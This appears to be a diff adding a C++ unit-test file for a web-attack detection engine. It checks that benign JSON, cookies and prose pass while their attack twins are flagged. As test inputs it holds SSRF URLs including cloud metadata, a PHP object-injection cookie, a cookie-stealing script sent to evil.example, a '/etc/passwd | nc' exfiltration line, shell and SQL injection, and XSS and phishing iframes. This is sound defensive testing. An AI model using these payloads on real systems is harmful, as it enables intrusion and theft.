@@ -1,0 +1,119 @@
+// Context grading at PL1: ordinary documents, configurations and cookies that only look like an
+// attack pass; each case has an attack twin that must still be blocked.
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+#include "bulwark/detect/engine.h"
+
+namespace bulwark::detect {
+namespace {
+
+class ContextGradingTest : public ::testing::Test {
+protected:
+  static void SetUpTestSuite() {
+    auto e = Engine::create(EngineConfig{});
+    ASSERT_TRUE(e.has_value());
+    engine_ = *e;
+  }
+  static bool json(std::string_view body) {
+    std::vector<Header> h{Header{"Content-Type", "application/json"}};
+    RequestView r{.method = "POST", .target = "/api/items", .versionMinor = 1, .headers = h,
+                  .body = body, .bodyTruncated = false};
+    return engine_->inspect(r).attack();
+  }
+  static bool get(std::string_view target, std::vector<Header> h = {}) {
+    RequestView r{.method = "GET", .target = target, .versionMinor = 1, .headers = h, .body = {},
+                  .bodyTruncated = false};
+    return engine_->inspect(r).attack();
+  }
+  static EnginePtr engine_;
+};
+EnginePtr ContextGradingTest::engine_;
+
+TEST_F(ContextGradingTest, InternalServiceUrlsInConfigurationPass) {
+  EXPECT_FALSE(json(R"({"backend": {"endpoint": "http://localhost:7860/api/generate"}})"));
+  EXPECT_FALSE(json(R"({"auth": {"issuer": "http://127.0.0.1:9443", "jwks": "http://127.0.0.1:9443/keys"}})"));
+  EXPECT_FALSE(json(R"({"mirror": "ssh://deploy@192.168.7.20:2222/srv/app.git"})"));
+  EXPECT_FALSE(json(R"({"egress": [{"cidr": "0.0.0.0/0"}, {"cidr": "10.0.0.0/8"}]})"));
+  // Attack twins: no port, a service port, metadata, an encoded host, another scheme.
+  EXPECT_TRUE(json(R"({"endpoint": "http://localhost/admin"})"));
+  EXPECT_TRUE(json(R"({"endpoint": "http://127.0.0.1:6379/"})"));
+  EXPECT_TRUE(json(R"({"endpoint": "http://10.0.0.5:10250/pods"})"));
+  EXPECT_TRUE(json(R"({"endpoint": "http://0x7f000001:8080/"})"));
+  EXPECT_TRUE(json(R"({"endpoint": "gopher://localhost:7000/_x"})"));
+  EXPECT_TRUE(json(R"({"endpoint": "http://169.254.169.254/latest/meta-data/"})"));
+  EXPECT_TRUE(json(R"({"a": "http://localhost:7860/x", "b": "http://127.0.0.1:22/"})"));
+  // In a query parameter a server may fetch, any internal URL still counts.
+  EXPECT_TRUE(get("/fetch?url=http%3A%2F%2Flocalhost%3A7860%2Fapi"));
+}
+
+TEST_F(ContextGradingTest, FileUrlInDocumentIsJudgedByThePathRules) {
+  EXPECT_FALSE(json(R"({"source_root": "file:///home/runner/work/app/"})"));
+  EXPECT_TRUE(json(R"({"source_root": "file:///etc/shadow"})"));
+}
+
+TEST_F(ContextGradingTest, SerializedArrayCookieIsData) {
+  EXPECT_FALSE(get("/px.gif", {Header{"Cookie", "seen=a%3A2%3A%7Bi%3A7%3Bi%3A1700000000%3Bi%3A8%3Bs%3A2%3A%22ok%22%3B%7D"}}));
+  EXPECT_TRUE(get("/px.gif", {Header{"Cookie", "seen=O%3A8%3A%22Gadget_x%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bs%3A1%3A%22b%22%3B%7D"}}));
+}
+
+TEST_F(ContextGradingTest, BareMemberNameIsNotScript) {
+  EXPECT_FALSE(json(R"({"tracking": {"sources": ["document.referrer", "location.pathname"]}})"));
+  EXPECT_TRUE(json(R"({"tracking": "x\";document.location='https://evil.example/?'+document.cookie;//"})"));
+}
+
+TEST_F(ContextGradingTest, CodeQuotedInProseIsText) {
+  EXPECT_FALSE(json(R"({"text": "to clean up run `find . -name '*.tmp' -delete` and then `make clean` before the build"})"));
+  EXPECT_FALSE(json(R"({"body": "Example:\n```sh\ncurl -s https://example.org/setup | sh\n```\nthat is all"})"));
+  EXPECT_FALSE(json(R"({"html": "<h2>Usage</h2>\n<p>Load it with</p><pre><code>const lib = require('left-pad');\n</code></pre>"})"));
+  EXPECT_FALSE(json(R"({"text": "we embed it with `<script src=\"https://cdn.example.org/w.js\" async></script>` on each page"})"));
+  EXPECT_FALSE(json(R"({"doc": "| Step | Run |\n|---|---|\n| build | `make all && make install` |\n| wipe | `rm -rf ./out` |"})"));
+  // Around the quotes: still an attack.
+  EXPECT_TRUE(json(R"({"text": "see `ls` <script>alert(document.domain)</script>"})"));
+  EXPECT_TRUE(json(R"({"text": "`x`; cat /etc/passwd | nc 198.51.100.7 4444"})"));
+  EXPECT_TRUE(json(R"({"html": "<p onmouseover=alert(1)>hi</p><code>x</code>"})"));
+  EXPECT_TRUE(json(R"({"text": "`<script>alert(1)</script>`"})"));
+  EXPECT_TRUE(json(R"({"name": "bob `cat /etc/passwd`"})"));
+  EXPECT_TRUE(json(R"J({"q": "(select(sleep(5))from(`information_schema`.tables)where 1 or 2 or 3)"})J"));
+}
+
+TEST_F(ContextGradingTest, ShellWithoutItsCommandStringRunsNothing) {
+  EXPECT_FALSE(json(R"({"step": "Run make lint || sh -c \\"})"));
+  EXPECT_TRUE(json(R"({"step": "x || sh -c 'id'"})"));
+  EXPECT_TRUE(get("/run?cmd=x%20%7C%7C%20bash%20-c%20%22id%3Bwhoami%22"));
+}
+
+TEST_F(ContextGradingTest, FileNamedInASentence) {
+  EXPECT_FALSE(get("/help?q=where%20does%20%2Fetc%2Fresolv.conf%20come%20from"));
+  EXPECT_FALSE(get("/help?q=..%2F%20versus%20.%2F%20in%20imports"));
+  EXPECT_TRUE(get("/help?q=%2Fetc%2Fresolv.conf"));
+  EXPECT_TRUE(get("/help?q=..%2F..%2Fetc%2Fresolv.conf"));
+  EXPECT_TRUE(get("/help?q=x%3Bcat%20%2Fetc%2Fshadow"));
+}
+
+TEST_F(ContextGradingTest, EmbeddedMediaInRichText) {
+  EXPECT_FALSE(json(R"({"content": "<p>Our talk:</p><iframe width=\"640\" height=\"360\" src=\"https://player.example.org/v/81\" allowfullscreen></iframe>"})"));
+  EXPECT_TRUE(json(R"({"content": "<p>Our talk:</p><iframe src=\"javascript:alert(1)\"></iframe>"})"));
+  EXPECT_TRUE(json(R"({"content": "<iframe src=\"https://phish.example/login\" width=\"100%\"></iframe>"})"));
+  EXPECT_TRUE(json(R"({"content": "<p>x</p><iframe src=\"http://phish.example/login\"></iframe>"})"));
+  EXPECT_TRUE(json(R"({"content": "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"})"));
+  EXPECT_TRUE(json(R"({"content": "<img src=\"https://x.example/a.png\" onerror=\"alert(1)\">"})"));
+}
+
+
+TEST_F(ContextGradingTest, OperatorWithoutOperandIsNoInjection) {
+  EXPECT_FALSE(json(R"({"typeahead": "rock 'n' roll or"})"));
+  EXPECT_FALSE(get("/find?q=select%20a%20row%20where%20the%20name%20is%20like"));
+  EXPECT_TRUE(json(R"({"typeahead": "rock' or 'a'='a"})"));
+  EXPECT_TRUE(get("/find?q=1%27%20or%201%3D1--%20"));
+}
+
+TEST_F(ContextGradingTest, TerminalTranscriptInATicket) {
+  EXPECT_FALSE(json(R"({"details": "df -h shows:\nFilesystem Size Used\n/dev/sda1 40G 39G\ntmpfs 2G 0\nplease advise"})"));
+  EXPECT_TRUE(json(R"({"details": "df -h; cat /etc/shadow"})"));
+}
+
+} // namespace
+} // namespace bulwark::detect
